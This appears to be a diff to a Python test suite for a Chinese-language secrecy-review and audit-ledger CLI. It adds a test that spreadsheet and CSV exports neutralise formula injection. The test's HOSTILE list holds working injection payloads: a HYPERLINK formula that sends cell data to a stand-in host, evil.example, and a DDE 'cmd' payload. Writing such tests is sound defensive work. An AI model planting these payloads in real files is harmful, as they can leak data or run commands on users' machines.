@@ -13,7 +13,7 @@ from click.testing import CliRunner
 
 from secreview.cli import main
 from tests.helpers.audit_ledger import FULL_ID, MASKED_ID, Items, build_items, day, ok
-from tests.helpers.ledger import cli, cli_json, copy_ledger, head
+from tests.helpers.ledger import cli, cli_json, copy_ledger, head, passphrase
 
 AUDITOR = "孙审计"
 
@@ -87,6 +87,7 @@ def test_json_rows_and_statistics(ledger: tuple[Path, Items], runner: CliRunner)
         "head": head_hash,
         "verify_ok": True,
         "verify_message": "",
+        "checkpoint": "",
     }
     verify = cli_json(runner, db, AUDITOR, "ledger", "verify", "--expect-head", head_hash)
     assert verify["ok"] is True
@@ -285,6 +286,80 @@ def test_audit_names_rules_in_chinese_with_the_id_as_a_note(ledger, runner) -> N
         in (row["cells"]["保密审查员及意见"])
     )
     r = runner.invoke(
-        main, ["--db", str(db), "--as", AUDITOR, "audit", *period()], env={"COLUMNS": "200"}
+        main,
+        ["--db", str(db), "--as", AUDITOR, "audit", *period()],
+        env={"COLUMNS": "200", "SECREVIEW_PASSPHRASE": passphrase(AUDITOR)},
     )
     assert "规则：密级标志（marking.secret_level）" in r.stdout.replace("\n", "")
+
+
+HOSTILE = [
+    '=HYPERLINK("http://evil.example/?"&A1,"点此")',
+    "+1+cmd|' /C calc'!A0",
+    "-2+3",
+    "@SUM(A1:A9)",
+    "  =1+1",
+    "\t=1+1",
+    "＝1+1",
+]
+
+
+def test_spreadsheet_cells_never_become_formulas(
+    office: Path, runner: CliRunner, tmp_path: Path
+) -> None:
+    """Titles (and a reviewer's reason) a spreadsheet would run are written as inert text."""
+    from secreview.report.cells import neutralise
+    from tests.helpers.ledger import write_doc
+
+    for i, title in enumerate(HOSTILE):
+        doc = write_doc(tmp_path, f"h{i}.txt", "pass", salt=str(i))
+        cli_json(runner, office, "张三", "submit", str(doc), "--title", title, "--dept", "办公室")
+    rej = write_doc(tmp_path, "r.html", "review")
+    sid = cli_json(
+        runner, office, "张三", "submit", str(rej), "--title", "普通标题", "--dept", "办公室"
+    )["id"]
+    ok(cli(runner, office, "审查员甲", "review", sid, "--reject", "--comment", "=1+2 请修改"))
+    xlsx, csv_out = tmp_path / "a.xlsx", tmp_path / "a.csv"
+    ok(cli(runner, office, AUDITOR, "audit", "--format", "xlsx", "-o", str(xlsx)))
+    ok(cli(runner, office, AUDITOR, "audit", "--format", "csv", "-o", str(csv_out)))
+    wb = openpyxl.load_workbook(xlsx)
+    cells = [c for sh in wb.worksheets for row in sh.iter_rows() for c in row if c.value]
+    assert not [c.coordinate for c in cells if c.data_type == "f"]
+    header = [c.value for c in wb["台账"][3]]
+    col = header.index("信息标题") + 1
+    title_cells = [wb["台账"].cell(row=r, column=col) for r in range(4, 4 + len(HOSTILE))]
+    assert [c.value for c in title_cells] == [t.strip() for t in HOSTILE]  # submit trims it
+    assert all(c.data_type == "s" and c.quotePrefix for c in title_cells)
+    with csv_out.open(encoding="utf-8-sig", newline="") as fh:
+        rows = list(csv.reader(fh))
+    assert [r[1] for r in rows[1 : 1 + len(HOSTILE)]] == ["'" + t.strip() for t in HOSTILE]
+    for r in rows:
+        for cell in r:
+            assert not cell.lstrip(" ").startswith(("=", "+", "-", "@", "\t", "\r")), cell
+    # The raw XML holds no <f> element at all.
+    import zipfile
+
+    with zipfile.ZipFile(xlsx) as z:
+        sheets = [z.read(n).decode() for n in z.namelist() if n.startswith("xl/worksheets/")]
+    assert not any("<f>" in s or "<f " in s for s in sheets)
+    assert neutralise("普通标题") == "普通标题" and neutralise("1-2") == "1-2"
+    for lead in ("  =1", "\t=1", "\r=1", "\u3000@x", "\t", "-", "＋1"):
+        assert neutralise(lead) == "'" + lead
+
+
+def test_audit_prints_the_last_checkpoint(office: Path, runner: CliRunner) -> None:
+    cp = cli_json(runner, office, AUDITOR, "ledger", "checkpoint")
+    data = cli_json(runner, office, AUDITOR, "audit")
+    assert data["ledger"]["checkpoint"].startswith(f"第 {cp['seq']} 条")
+    assert cp["head"][:16] in data["ledger"]["checkpoint"]
+    text = cli(runner, office, AUDITOR, "audit")
+    ok(text)
+    assert "最近检查点" in text.stdout and cp["head"][:16] in text.stdout.replace("\n", "")
+    # The printed head (a 16-digit prefix) is what an inspector types back in.
+    prefix = data["ledger"]["head"][:16]
+    found = cli_json(runner, office, "检查人员", "ledger", "verify", "--expect-head", prefix)
+    assert found["expect_head_seq"] == data["ledger"]["events"]
+    short = cli(runner, office, "检查人员", "ledger", "verify", "--expect-head", prefix[:11])
+    assert short.exit_code == 2 and "12" in short.stderr
+    wrong = cli(runner, office, "检查人员", "ledger", "verify", "--expect-head", "0" * 12)
+    assert wrong.exit_code == 1 and "不在台账中" in wrong.stderr
